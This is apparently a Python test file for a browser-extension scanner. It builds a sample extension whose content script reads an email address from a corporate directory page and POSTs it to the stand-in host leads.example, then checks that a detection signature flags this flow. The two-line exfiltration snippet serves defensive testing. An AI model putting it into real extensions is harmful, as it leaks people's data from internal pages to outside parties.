"""The worked example of signatures/README.md: sound, its examples hold, and a scan finds what it is about."""

import json
from dataclasses import replace
from pathlib import Path

from skimtrace.batch.one import scan_one
from skimtrace.batch.settings import Settings
from skimtrace.bundle.discover import Input
from skimtrace.signatures.examples import run_examples
from skimtrace.signatures.lint import lint
from skimtrace.signatures.registry import load_signatures

FOLDER = Path(__file__).with_name("worked")
ID = "OWN-DIRECTORY-OUT"
KNOWN = load_signatures(FOLDER)
READING = 'const email = document.querySelector("a.email").textContent;\n'
SENDING = 'fetch("https://leads.example/add", {method: "POST", body: email});\n'


def _extension(folder: Path, code: str) -> Path:
    folder.mkdir()
    scripts = [{"matches": ["https://people.corp.example/*"], "js": ["content.js"]}]
    manifest = {"manifest_version": 3, "name": "Directory", "version": "1", "content_scripts": scripts}
    (folder / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    (folder / "content.js").write_text(code, encoding="utf-8")
    return folder


def test_it_needs_no_advice_and_its_examples_hold() -> None:
    assert [row for row in lint(KNOWN) if row.file == str(FOLDER / f"{ID}.yaml")] == []
    (rule,) = (row for row in KNOWN.signatures if row.id == ID)
    outcomes = run_examples(replace(KNOWN, signatures=(rule,)))
    assert [(row.expected, row.passed) for row in outcomes] == [
        ("match", True), ("match", True), ("near-miss", True), ("near-miss", True), ("near-miss", True),
    ]  # fmt: skip


def test_a_scan_finds_it_with_its_place_and_host(tmp_path: Path) -> None:
    result = scan_one(Input(_extension(tmp_path / "a", READING + SENDING), "a"), Settings(KNOWN))
    (found,) = (row for row in result.findings if row.signature == ID)
    assert (
        found.message == "Reads page text from people.corp.example pages and sends it to leads.example (request body)"
    )
    assert [(place.file, place.line) for place in found.locations] == [("content.js", 1), ("content.js", 2)]
    assert [line.outcome for line in found.proof] == ["held"]
    assert sum(part.points for part in result.score_breakdown if found.id in part.findings) > 0


def test_a_scan_finds_nothing_in_an_honest_one(tmp_path: Path) -> None:
    code = READING + SENDING.replace("leads.example", "api.corp.example")
    result = scan_one(Input(_extension(tmp_path / "a", code), "a"), Settings(KNOWN))
    assert len(result.flows) + len(result.same_site_flows) == 1
    assert [row.signature for row in result.findings if row.signature == ID] == []
